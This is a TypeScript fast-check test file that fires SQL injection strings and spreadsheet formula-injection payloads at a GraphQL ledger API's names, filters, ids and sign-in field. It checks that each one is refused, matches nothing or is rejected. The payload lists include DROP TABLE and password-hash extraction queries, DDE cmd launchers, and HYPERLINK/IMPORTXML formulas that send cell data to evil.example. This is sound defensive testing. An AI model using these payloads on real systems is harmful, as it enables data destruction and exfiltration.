import fc from 'fast-check';
import { graphql, type HttpRequest } from './answers';

/** SQL aimed at the places our SQL is built: identifiers, string literals, LIKE patterns, parameters. */
export const SQL_TEXTS = [
  "' OR '1'='1",
  "'; DROP TABLE units; --",
  'x" OR 1=1 --',
  '"; DELETE FROM users; --',
  "') OR ('a'='a",
  '1; UPDATE users SET role = $$admin$$',
  '$$; DROP TABLE ledgers; $$',
  "'; SELECT pg_sleep(10); --",
  "%' OR 1=1 --",
  '%',
  '_',
  '\\',
  "'||(SELECT password_hash FROM users LIMIT 1)||'",
  '1 UNION SELECT * FROM users',
  '*/ OR 1=1 /*',
  'id) OR (1=1',
  't.id',
  'ledger_daily_followup',
  '$1',
  "E'\\x27'",
];

/** What a spreadsheet would run if an export let it (OWASP's CSV injection list). */
export const FORMULA_TEXTS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
  '@SUM(1,2)',
  '+1+1',
  '-2+3',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '@SUM(A1:A9)',
  "+cmd|' /C notepad'!'A1'",
  '=1+1;=2+2',
];

export const HOSTILE_TEXTS = [...SQL_TEXTS, ...FORMULA_TEXTS];

/** Strings that look like an attack: the fixed ones, or one of them with random text around it. */
export const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS),
  fc
    .tuple(fc.constantFrom(...HOSTILE_TEXTS), fc.string({ unit: 'grapheme', maxLength: 10 }))
    .map(([attack, tail]) => attack + tail),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }),
);

/** Names the API accepts as filter or sort keys, which an attack must not be. */
export interface Names {
  fields: Set<string>;
  ledgers: Set<string>;
  measures: Set<string>;
  dimensions: Set<string>;
}

const SORTS = new Set(['id', 'updatedAt', 'createdAt', 'period']);
const OPERATORS = new Set(['eq', 'ne', 'gt', 'gte', 'lt', 'lte', 'in', 'contains', 'empty']);
const ROWS = `query ($ledger: String!, $unitId: ID, $period: String, $filter: JSON, $orderBy: [OrderInput!], $after: String) {
  rows(ledger: $ledger, unitId: $unitId, period: $period, filter: $filter, orderBy: $orderBy, after: $after) { totalCount }
}`;
const SAVE = `mutation ($ledger: String!, $unitId: ID, $changes: [RowChangeInput!]!) {
  saveRows(ledger: $ledger, unitId: $unitId, changes: $changes) { saved results { status errors { path message } } }
}`;

export interface Injection {
  label: string;
  request: HttpRequest;
  /** refused: a clear error; empty: data, and no row matches; rejected: saveRows rejects naming `field`. */
  expect: 'refused' | 'empty' | 'rejected';
  field?: string;
}

/**
 * SQL in every place the API takes a name or a value of its own: ledger keys, unit ids, periods,
 * cursors, filter keys and operators, sort fields, statistics measures and dimensions, row ids
 * and value keys. Names must be refused; a text value is a value (no rows match it).
 */
export function injections(names: Names, clerk: string, admin: string): Record<string, fc.Arbitrary<Injection>> {
  const notA = (taken: Set<string>) => hostileText.filter((s) => !taken.has(s));
  const rows = (label: string, variables: Record<string, unknown>, expect: Injection['expect'] = 'refused') => ({
    label,
    request: graphql(ROWS, { ledger: 'window_case', ...variables }, clerk),
    expect,
  });
  const notId = hostileText.filter((s) => !/^\d{1,10}$/.test(s));
  const notPeriod = hostileText.filter((s) => !/^\d{4}-\d{2}-\d{2}$/.test(s));
  const notCursor = hostileText.filter((s) => !/^o:\d{1,9}$/.test(Buffer.from(s, 'base64url').toString()));
  return {
    'ledger key': notA(names.ledgers).map((key) => rows(`ledger ${key}`, { ledger: key })),
    'unit id': notId.map((id) => ({
      ...rows(`unitId ${id}`, { unitId: id }),
      request: graphql(ROWS, { ledger: 'window_case', unitId: id }, admin),
    })),
    period: notPeriod.map((period) => rows(`period ${period}`, { ledger: 'daily_followup', period })),
    cursor: notCursor.map((after) => rows(`after ${after}`, { after })),
    'filter key': notA(names.fields).map((key) => rows(`filter key ${key}`, { filter: { [key]: 'x' } })),
    'filter operator': hostileText
      .filter((op) => !OPERATORS.has(op))
      .map((op) => rows(`operator ${op}`, { filter: { applicant: { [op]: 'x' } } })),
    'sort field': notA(new Set([...names.fields, ...SORTS])).map((field) =>
      rows(`orderBy ${field}`, { orderBy: [{ field }] }),
    ),
    'text filter value (no match)': fc
      .tuple(
        fc.constantFrom('eq', 'ne', 'contains', 'in'),
        hostileText.filter((s) => !s.includes('\u0000')),
      )
      .map(([op, value]) => {
        const operand = op === 'in' ? [value] : value;
        // ne matches every row: none exist, so every answer is an empty page
        return rows(`applicant ${op} ${value}`, { filter: { applicant: { [op]: operand } } }, 'empty');
      }),
    'number filter value': hostileText.map((value) =>
      rows(`cases = ${value}`, { ledger: 'daily_followup', filter: { cases: { gte: value } } }),
    ),
    'statistics measure or dimension': fc
      .tuple(fc.boolean(), notA(new Set([...names.measures, ...names.dimensions])))
      .map(([asMeasure, name]) => ({
        label: `statistics ${asMeasure ? 'measure' : 'groupBy'} ${name}`,
        request: graphql(
          'query ($m: [String!]!, $g: [String!]!) { statistics(ledger: "daily_followup", measures: $m, groupBy: $g) { totals { value } } }',
          asMeasure ? { m: [name], g: ['unit'] } : { m: ['cases'], g: [name] },
          clerk,
        ),
        expect: 'refused' as const,
      })),
    'row id to update or delete': fc.tuple(fc.constantFrom('UPDATE', 'DELETE'), notId).map(([op, id]) => ({
      label: `${op} id ${id}`,
      request: graphql(SAVE, { ledger: 'daily_followup', changes: [{ op, id, version: 1, values: {} }] }, clerk),
      expect: 'rejected' as const,
      field: 'id',
    })),
    'value key': notA(names.fields).map((key) => ({
      label: `values key ${key}`,
      request: graphql(SAVE, { ledger: 'survey', changes: [{ op: 'INSERT', values: { q1: 'A', [key]: 'x' } }] }, clerk),
      expect: 'rejected' as const,
      field: key,
    })),
    'sign-in name': hostileText.map((username) => ({
      label: `signIn ${username}`,
      request: graphql('mutation ($u: String!) { signIn(username: $u, password: "x") { token } }', { u: username }),
      expect: 'refused' as const,
    })),
  };
}
